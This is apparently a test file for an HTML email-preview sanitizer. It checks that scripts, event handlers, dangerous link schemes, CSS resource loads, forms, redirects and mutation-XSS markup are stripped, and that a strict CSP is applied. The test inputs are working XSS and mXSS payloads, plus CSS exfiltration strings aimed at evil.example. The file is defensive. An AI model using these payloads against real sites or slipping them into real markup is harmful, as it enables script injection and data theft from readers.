/** Hostile HTML in the preview: what would run, load, ask or lead away is not in what is shown. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { frameDocument } from '../../src/preview/safe/frame';
import { safeCss } from '../../src/preview/safe/css';
import { clean, htmlMail, pageOf } from './letters';

const nothing = { dark: false, resolve: () => undefined };

void test('a script is not shown, wherever it stands', () => {
  const { body, removed } = clean(
    '<p>a<script>alert(1)</script>b</p><svg onload=alert(2)><script>alert(3)</script></svg><math><mtext></mtext></math><template><script>4</script></template>',
  );
  assert.equal(body, '<p>ab</p>');
  assert.equal(removed.get('script'), 1);
  assert.equal(removed.get('svg'), 1);
});

void test('a script in an attribute is taken out and counted', () => {
  const { body, removed } = clean(
    '<img src=x onerror="alert(1)" alt="a"><b onclick=alert(2) ONMOUSEOVER=alert(3)>b</b>',
  );
  assert.equal(body, '<img alt="a"><b>b</b>');
  assert.equal(removed.get('script in an attribute'), 3);
});

void test('a javascript: link leads nowhere, however it is written', () => {
  for (const href of [
    'javascript:alert(1)',
    ' JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    'java&#10;script:alert(1)',
    '&#1;javascript:alert(1)',
    'vbscript:x',
    'data:text/html,<script>alert(1)</script>',
    'file:///etc/passwd',
    'command:workbench.action.terminal.new',
    'vscode://x/y',
    '//relative.example/',
    'relative.html',
  ])
    assert.equal(clean(`<a href="${href}">x</a>`).body, '<a>x</a>', href);
  assert.match(
    clean('<a href="https://example.com/?a=1&amp;b">x</a>').body,
    /href="https:\/\/example\.com\/\?a=1&#38;b"/,
  );
  assert.match(
    clean('<a href="mailto:ann@example.com">x</a><a href="#top">y</a>').body,
    /mailto:ann@example\.com.*href="#top"/,
  );
});

void test('style can load nothing: url(), @import, image-set, escapes, comments', () => {
  for (const css of [
    'a{background:url(https://evil.example/?x)}',
    'a{background:url("//evil.example/x")}',
    "a{background:u/**/rl('https://evil.example/x')}",
    'a{background:\\75 \\72 l(https://evil.example/x)}',
    'a{background:URL( https://evil.example/x }',
    '@import "https://evil.example/x.css";',
    '@import url(https://evil.example/x.css);',
    '@\\69mport "https://evil.example/x.css";',
    '@font-face{font-family:x;src:url(https://evil.example/f.woff)}',
    'input[value^=a]{background:image-set("https://evil.example/a" 1x)}',
  ])
    assert.doesNotMatch(safeCss(css, nothing), /url\("?[a-z/]|@import|image-set\(["'](?:https?:|\/\/)/i, css);
  assert.doesNotMatch(clean('<p style="background:url(https://evil.example/x)">a</p>').body, /evil/);
});

void test('style cannot leave its element', () => {
  const { styles } = clean('<style>p{color:red}</style><p>a</p>');
  assert.equal(styles, 'p{color:red}');
  assert.doesNotMatch(safeCss('p::after{content:"</style><script>alert(1)</script>"}', nothing), /<\/style/);
});

void test('old ways to run something from style are void', () => {
  assert.doesNotMatch(
    safeCss('a{width:expression(alert(1));-moz-binding:url(x);behavior:url(#x)}', nothing),
    /expression\(|-moz-binding:|(?:^|[;{])behavior:/,
  );
});

void test('a form asks nothing: its fields are gone, its text stays', () => {
  const { body, removed } = clean(
    '<form action="https://evil.example/"><p>Password?</p><input name=p><select><option>a</select><textarea>b</textarea></form>',
  );
  assert.equal(body, '<p>Password?</p>');
  assert.equal(removed.get('form'), 1);
  assert.equal(removed.get('input'), 1);
});

void test('meta refresh and base href change nothing', () => {
  const { body, removed } = clean(
    '<meta http-equiv="Refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><a href="x">y</a>',
  );
  assert.equal(body, '<a>y</a>');
  assert.equal(removed.get('meta refresh'), 1);
  assert.equal(removed.get('base'), 1);
});

void test('what would be fetched without being seen is gone: link, preconnect, frames, objects, media', () => {
  const { body } = clean(
    '<link rel=dns-prefetch href=//evil.example><link rel=stylesheet href=https://evil.example/x.css><iframe src=https://evil.example></iframe><object data=x></object><embed src=x><video src=https://evil.example poster=x></video><audio src=x></audio><img srcset="https://evil.example/x 2x" alt=a>z',
  );
  assert.equal(body, '<img alt="a">z');
});

void test('remote images stay away until they are allowed, and are counted with their hosts', () => {
  const html =
    '<img src="https://a.example/1.gif"><td background="http://b.example/2.png"></td><div style="background:url(//c.example/3)">x</div>';
  const blocked = clean(html);
  assert.doesNotMatch(blocked.body, /example/);
  assert.equal(blocked.remoteImages, 2 + 0, 'a td outside of a table is no element');
  assert.deepEqual(blocked.hosts, ['a.example', 'c.example']);
  const allowed = clean(html, { remote: true });
  assert.match(allowed.body, /src="https:\/\/a\.example\/1\.gif"/);
  assert.match(allowed.body, /url\(&#34;https:\/\/c\.example\/3&#34;\)/);
});

void test('the frame has its CSP in front of everything of the message', () => {
  const { frame = '' } = pageOf(
    htmlMail(
      '<!doctype html><head><title>x</title><meta http-equiv="Content-Security-Policy" content="default-src *"></head><p>a',
    ),
  );
  const policies = [...frame.matchAll(/Content-Security-Policy/g)];
  assert.equal(policies.length, 1);
  assert.ok(frame.indexOf('Content-Security-Policy') < frame.indexOf('<style>'));
  assert.match(
    frame,
    /default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'/,
  );
  assert.match(frameDocument(clean('a'), { remote: true, dark: false }), /img-src data: https: http:;/);
});

void test('markup that changes when it is read twice stays inert', () => {
  for (const html of [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<a title="<img src=x onerror=alert(1)>">x</a>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<!--><img src=x onerror=alert(1)>-->',
  ]) {
    const once = clean(html).body;
    assert.doesNotMatch(once.replace(/"[^"]*"/g, '""'), /onerror|<script/i, html);
    assert.equal(clean(once).body, once, html);
  }
});

void test('HTML nested a hundred thousand deep, or made of a million elements, is shown to a limit', () => {
  const deep = clean('<div>'.repeat(100_000) + 'x');
  assert.equal(deep.shortened, true);
  assert.ok(deep.body.split('<div>').length < 250);
  const wide = clean('<b>a</b>'.repeat(150_000));
  assert.equal(wide.shortened, true);
});
